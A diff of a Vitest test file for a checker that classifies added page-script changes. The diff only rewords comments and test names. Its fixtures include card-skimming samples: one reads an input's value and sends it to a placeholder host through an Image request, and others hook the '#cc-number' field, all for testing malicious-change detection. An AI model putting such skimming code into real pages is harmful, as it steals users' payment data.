@@ -1,4 +1,4 @@
-// Guards that what is only added for people to read is no new capability, and that code and selectors do not pass for it.
+// Text added for people to read is not a new capability, and code and selectors do not pass as such text.
 import { describe, expect, it } from 'vitest'
 import { compareScripts, sayReason } from '#changes/index.ts'
 
@@ -21,7 +21,7 @@ describe('texts for people', () => {
     't.a = "Número de tarjeta"; t.b = "¿Dónde está el código de seguridad?";',
     'say(hint, "Ask at https://tea-help.example/ask for it.");',
     'say(hint, "Your card was declined. Please call your bank.");',
-  ])('that are added are a release, no capability: %s', (added) => {
+  ])('that are added are a release, not a capability: %s', (added) => {
     expect(changed(added).verdict).toBe('release')
   })
 
@@ -35,7 +35,7 @@ describe('texts for people', () => {
     'run("Fetch the page; fetch(u)");',
     'find("Card number"); document.querySelector("#cc-number").addEventListener("keyup", say);',
     'say(hint, "Card number"); new Image().src = "https://tea-help.example/?" + document.querySelector("input").value;',
-  ])('do not cover what code uses: %s', (added) => {
+  ])('do not cover text that code uses: %s', (added) => {
     expect(['capability', 'malicious']).toContain(changed(added).verdict)
   })
 })
@@ -47,13 +47,13 @@ describe('the source of a function', () => {
     'var f = document.createElement("iframe"); f.src = cb => cb("x.html"); document.body.append(f);',
     'var s = document.createElement("script"); s.src = "" + function (t) { return t.list.min.js }; document.head.append(s);',
     'fetch(async function (t) { return t.page.json });',
-  ])('is no address that anything is loaded from: %s', (added) => {
+  ])('is not an address that anything is loaded from: %s', (added) => {
     const { reasons } = changed(added)
     expect(reasons.filter(({ code }) => code === 'new-load' || code === 'new-contact')).toEqual([])
     expect(reasons.map((reason) => sayReason(reason, 'en')).join(' ')).not.toMatch(/=>|function/)
   })
 
-  it('hides no data that goes with it, and no address beside it', () => {
+  it('hides no data sent with it, and no address beside it', () => {
     const card = 'document.querySelector("#cc-number").value'
     expect(changed(`fetch((() => 1) + ${card});`).verdict).toBe('capability')
     expect(changed('new Worker((() => "/w.js")());').reasons).toContainEqual(expect.objectContaining({ code: 'new-load' }))
